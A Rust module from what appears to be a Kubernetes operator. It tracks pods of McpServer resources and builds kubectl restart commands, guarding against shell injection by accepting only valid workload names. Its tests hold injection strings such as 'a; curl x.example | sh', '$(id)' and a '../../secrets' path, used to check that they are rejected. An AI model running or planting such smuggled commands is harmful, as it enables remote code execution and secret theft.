//! The pods of McpServers: which there are, from a metadata-only watch of each namespace that holds one, and what they
//! are, from a read of the pods that changed. A pod itself is never kept.

use std::{
    collections::{BTreeMap, BTreeSet, HashMap},
    net::IpAddr,
    sync::{Arc, Mutex, PoisonError},
};

use futures::{StreamExt as _, stream};
use k8s_openapi::api::core::v1::Pod;
use kube::{Api, ResourceExt as _, api::PartialObjectMeta};
use serde_json::Value;

use super::error::Error;
use crate::{
    api::names,
    inject::{Comparison, Plan, compare, is_server_name},
    registry::ObjectKey,
};

/// How many pods of one server are read at one time.
const READS: usize = 8;

/// What the watch tells of a pod.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct PodMeta {
    uid: String,
    version: String,
    label: Option<String>,
    annotation: Option<String>,
    told: Option<String>,
    is_leaving: bool,
    restart: Restart,
}

/// How a pod is made anew.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Restart {
    /// `kubectl rollout restart <kind>/<name>`.
    Rollout {
        /// Kind in lower case.
        kind: &'static str,
        /// Name.
        name: String,
    },
    /// `kubectl delete pod <name>`.
    Delete(String),
}

impl Restart {
    /// The command.
    pub(super) fn command(&self, namespace: &str) -> String {
        match self {
            Self::Rollout { kind, name } => format!("kubectl -n {namespace} rollout restart {kind}/{name}"),
            Self::Delete(name) => format!("kubectl -n {namespace} delete pod {name}"),
        }
    }

    /// The command is pasted into a shell, and the API server does not check the names of owners: only what can be the
    /// name of a workload is one.
    fn of(pod: &PartialObjectMeta<Pod>) -> Self {
        let hash = pod.labels().get("pod-template-hash").map(|hash| format!("-{hash}"));
        let rollout = |kind, name: &str| is_subdomain(name).then(|| Self::Rollout { kind, name: name.to_owned() });
        let controller = pod.owner_references().iter().find(|owner| owner.controller == Some(true));
        let of_controller = controller.and_then(|owner| match owner.kind.as_str() {
            _ if owner.api_version != "apps/v1" => None,
            "ReplicaSet" => rollout("deployment", owner.name.strip_suffix(hash.as_deref()?)?),
            "StatefulSet" => rollout("statefulset", &owner.name),
            "DaemonSet" => rollout("daemonset", &owner.name),
            _ => None,
        });
        of_controller.unwrap_or_else(|| Self::Delete(pod.name_any()))
    }
}

/// A DNS subdomain (RFC 1123), as every name of a workload is.
fn is_subdomain(name: &str) -> bool {
    let alphanumeric = |byte: &u8| byte.is_ascii_lowercase() || byte.is_ascii_digit();
    let label = |label: &str| {
        let bytes = label.as_bytes();
        let edge = |byte: Option<&u8>| byte.is_some_and(alphanumeric);
        edge(bytes.first()) && edge(bytes.last()) && bytes.iter().all(|byte| alphanumeric(byte) || *byte == b'-')
    };
    name.len() <= 253 && name.split('.').all(label)
}

impl PodMeta {
    /// What matters of `pod`; `None` when it names nothing that can be an McpServer.
    fn of(pod: &PartialObjectMeta<Pod>) -> Option<Self> {
        let named = |name: &&String| is_server_name(name);
        let label = pod.labels().get(names::SERVER).filter(named).cloned();
        let annotation = pod.annotations().get(names::SERVER).filter(named).cloned();
        if label.is_none() && annotation.is_none() {
            return None;
        }
        Some(Self {
            uid: pod.uid().unwrap_or_default(),
            version: pod.resource_version().unwrap_or_default(),
            label,
            annotation,
            told: pod.annotations().get(names::CONFIG).cloned(),
            is_leaving: pod.metadata.deletion_timestamp.is_some(),
            restart: Restart::of(pod),
        })
    }

    /// The McpServers it names: one, unless label and annotation disagree.
    pub(super) fn servers(&self) -> impl Iterator<Item = &String> {
        self.label.iter().chain(self.annotation.iter().filter(|name| self.label.as_ref() != Some(name)))
    }
}

/// What the last read of a pod showed.
#[derive(Clone, Debug, PartialEq, Eq)]
struct PodFacts {
    version: String,
    plan: String,
    ip: Option<IpAddr>,
    is_ready: bool,
    is_finished: bool,
    sidecar: Comparison,
}

/// A pod as the steps of a reconcile see it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct PodView {
    /// Namespace and name.
    pub(super) key: ObjectKey,
    /// Its uid.
    pub(super) uid: String,
    /// Whether it carries the label that the Service selects.
    pub(super) is_labelled: bool,
    /// The generation its annotation names.
    pub(super) told: Option<String>,
    /// Its address, once it has one.
    pub(super) ip: Option<IpAddr>,
    /// Whether kubelet says it is ready.
    pub(super) is_ready: bool,
    /// Whether it is guarded.
    pub(super) sidecar: Comparison,
    /// How it is made anew.
    pub(super) restart: Restart,
}

impl PodView {
    /// A pod of which only metadata was read.
    pub(super) fn of_metadata(pod: &PartialObjectMeta<Pod>) -> Self {
        Self {
            key: ObjectKey::new(pod.namespace().unwrap_or_default(), pod.name_any()),
            uid: pod.uid().unwrap_or_default(),
            is_labelled: pod.labels().contains_key(names::SERVER),
            told: pod.annotations().get(names::CONFIG).cloned(),
            ip: None,
            is_ready: false,
            sidecar: Comparison::Missing,
            restart: Restart::of(pod),
        }
    }
}

#[derive(Default)]
struct Namespace {
    is_listed: bool,
    pods: BTreeMap<String, PodMeta>,
}

/// Everything known about pods. Clones share it.
#[derive(Clone, Default)]
pub(super) struct Pods {
    namespaces: Arc<Mutex<HashMap<String, Namespace>>>,
    facts: Arc<Mutex<HashMap<String, PodFacts>>>,
}

impl Pods {
    /// Takes over a pod; gives the McpServers it names and, if it was known, named.
    pub(super) fn applied(&self, namespace: &str, pod: &PartialObjectMeta<Pod>) -> BTreeSet<String> {
        let mut touched = BTreeSet::new();
        self.with(namespace, |known| {
            let before = match PodMeta::of(pod) {
                Some(meta) => {
                    touched.extend(meta.servers().cloned());
                    known.pods.insert(pod.name_any(), meta)
                }
                None => known.pods.remove(&pod.name_any()),
            };
            touched.extend(before.iter().flat_map(PodMeta::servers).cloned());
        });
        touched
    }

    /// Forgets a pod; gives the McpServers it named.
    pub(super) fn deleted(&self, namespace: &str, pod: &PartialObjectMeta<Pod>) -> BTreeSet<String> {
        self.facts().remove(&pod.uid().unwrap_or_default());
        self.with(namespace, |known| {
            let before = known.pods.remove(&pod.name_any());
            before.iter().flat_map(PodMeta::servers).cloned().collect()
        })
    }

    /// A new list is complete: forgets the pods that are not in it.
    pub(super) fn listed(&self, namespace: &str, listed: &BTreeSet<String>) {
        let gone: Vec<String> = self.with(namespace, |known| {
            known.is_listed = true;
            let gone = known.pods.iter().filter(|(name, _)| !listed.contains(*name));
            let uids = gone.map(|(_, meta)| meta.uid.clone()).collect();
            known.pods.retain(|name, _| listed.contains(name));
            uids
        });
        self.facts().retain(|uid, _| !gone.contains(uid));
    }

    /// The namespace is not watched any more.
    pub(super) fn forget(&self, namespace: &str) {
        let known = self.namespaces.lock().unwrap_or_else(PoisonError::into_inner).remove(namespace);
        let uids: BTreeSet<String> =
            known.into_iter().flat_map(|known| known.pods.into_values()).map(|pod| pod.uid).collect();
        self.facts().retain(|uid, _| !uids.contains(uid));
    }

    /// The pods that name `server` and are here to stay, judged by `plan`; `None` until they have been listed. Pods
    /// that changed since they were last read, or were judged by another plan, are read.
    pub(super) async fn of_server(
        &self,
        client: &kube::Client,
        server: &ObjectKey,
        plan: &Plan,
    ) -> Result<Option<Vec<PodView>>, Error> {
        let Some(known) = self.naming(server) else { return Ok(None) };
        let api: Api<Pod> = Api::namespaced(client.clone(), &server.namespace);
        let reads = stream::iter(known).map(|(name, meta)| self.view(&api, server, name, meta, plan));
        let mut reads = reads.buffered(READS);
        let mut views = Vec::new();
        while let Some(view) = reads.next().await {
            views.extend(view?);
        }
        Ok(Some(views))
    }

    async fn view(
        &self,
        api: &Api<Pod>,
        server: &ObjectKey,
        name: String,
        meta: PodMeta,
        plan: &Plan,
    ) -> Result<Option<PodView>, Error> {
        let known = self.facts().get(&meta.uid).cloned();
        let is_current = |facts: &PodFacts| facts.version == meta.version && facts.plan == plan.hash();
        let facts = match known.filter(is_current) {
            Some(facts) => facts,
            None => match read(api, &name).await? {
                Some(pod) if text(&pod, "/metadata/uid") == Some(&meta.uid) => {
                    let facts = facts(&pod, plan);
                    self.facts().insert(meta.uid.clone(), facts.clone());
                    facts
                }
                // Gone, or another pod by now: the watch will tell.
                _ => return Ok(None),
            },
        };
        if facts.is_finished {
            return Ok(None);
        }
        Ok(Some(PodView {
            key: ObjectKey::new(server.namespace.clone(), name),
            uid: meta.uid,
            is_labelled: meta.label.as_ref() == Some(&server.name),
            told: meta.told,
            ip: facts.ip,
            is_ready: facts.is_ready,
            sidecar: facts.sidecar,
            restart: meta.restart,
        }))
    }

    fn naming(&self, server: &ObjectKey) -> Option<Vec<(String, PodMeta)>> {
        self.with(&server.namespace, |known| {
            let of_server =
                known.pods.iter().filter(|(_, pod)| !pod.is_leaving && pod.servers().any(|name| *name == server.name));
            known.is_listed.then(|| of_server.map(|(name, pod)| (name.clone(), pod.clone())).collect())
        })
    }

    fn with<T>(&self, namespace: &str, change: impl FnOnce(&mut Namespace) -> T) -> T {
        let mut namespaces = self.namespaces.lock().unwrap_or_else(PoisonError::into_inner);
        change(namespaces.entry(namespace.to_owned()).or_default())
    }

    fn facts(&self) -> std::sync::MutexGuard<'_, HashMap<String, PodFacts>> {
        self.facts.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

/// The pod as raw JSON: a type would drop what it does not know, and the comparison must see it.
async fn read(api: &Api<Pod>, name: &str) -> Result<Option<Value>, Error> {
    let request = kube::api::Request::new(api.resource_url()).get(name, &kube::api::GetParams::default());
    let request = request.map_err(|error| Error::read("a pod")(kube::Error::BuildRequest(error)))?;
    match api.clone().into_client().request::<Value>(request).await {
        Ok(pod) => Ok(Some(pod)),
        Err(kube::Error::Api(status)) if status.is_not_found() => Ok(None),
        Err(error) => Err(Error::read("a pod")(error)),
    }
}

fn facts(pod: &Value, plan: &Plan) -> PodFacts {
    let conditions = pod.pointer("/status/conditions").and_then(Value::as_array);
    let ready = conditions.into_iter().flatten().find(|condition| text(condition, "/type") == Some("Ready"));
    PodFacts {
        version: text(pod, "/metadata/resourceVersion").unwrap_or_default().to_owned(),
        plan: plan.hash().to_owned(),
        ip: text(pod, "/status/podIP").and_then(|ip| ip.parse().ok()),
        is_ready: ready.and_then(|condition| text(condition, "/status")) == Some("True"),
        is_finished: matches!(text(pod, "/status/phase"), Some("Succeeded" | "Failed")),
        sidecar: compare(pod, plan),
    }
}

fn text<'a>(value: &'a Value, pointer: &str) -> Option<&'a str> {
    value.pointer(pointer).and_then(Value::as_str)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;
    use serde_json::json;

    fn pod(metadata: &Value) -> PartialObjectMeta<Pod> {
        serde_json::from_value(json!({"apiVersion": "v1", "kind": "Pod", "metadata": metadata})).unwrap()
    }

    #[rstest]
    #[case::deployment("apps/v1", "ReplicaSet", "a-7f9", "kubectl -n acme rollout restart deployment/a")]
    #[case::stateful_set("apps/v1", "StatefulSet", "a.b", "kubectl -n acme rollout restart statefulset/a.b")]
    #[case::daemon_set("apps/v1", "DaemonSet", "a", "kubectl -n acme rollout restart daemonset/a")]
    #[case::bare_replica_set("apps/v1", "ReplicaSet", "a", "kubectl -n acme delete pod p")]
    #[case::another_api("x.example/v1", "DaemonSet", "a", "kubectl -n acme delete pod p")]
    #[case::a_command("apps/v1", "DaemonSet", "a; curl x.example | sh", "kubectl -n acme delete pod p")]
    #[case::a_command_before_the_hash("apps/v1", "ReplicaSet", "$(id)-7f9", "kubectl -n acme delete pod p")]
    #[case::an_option("apps/v1", "StatefulSet", "-a", "kubectl -n acme delete pod p")]
    #[case::no_name("apps/v1", "StatefulSet", "", "kubectl -n acme delete pod p")]
    fn the_command_names_only_what_can_be_a_workload(
        #[case] api_version: &str,
        #[case] kind: &str,
        #[case] name: &str,
        #[case] command: &str,
    ) {
        let owner = json!({"apiVersion": api_version, "kind": kind, "name": name, "uid": "u", "controller": true});
        let pod = pod(&json!({"name": "p", "labels": {"pod-template-hash": "7f9"}, "ownerReferences": [owner]}));
        assert_eq!(Restart::of(&pod).command("acme"), command);
    }

    #[rstest]
    #[case::label(json!({"labels": {names::SERVER: "a"}}), &["a"])]
    #[case::both(json!({"labels": {names::SERVER: "a"}, "annotations": {names::SERVER: "b"}}), &["a", "b"])]
    #[case::no_name(json!({"labels": {names::SERVER: "A_b"}}), &[])]
    #[case::a_path(json!({"annotations": {names::SERVER: "../../secrets/x"}}), &[])]
    #[case::neither(json!({}), &[])]
    fn only_a_name_is_looked_up(#[case] metadata: Value, #[case] servers: &[&str]) {
        let meta = PodMeta::of(&pod(&metadata));
        assert_eq!(meta.iter().flat_map(PodMeta::servers).collect::<Vec<_>>(), servers);
    }
}
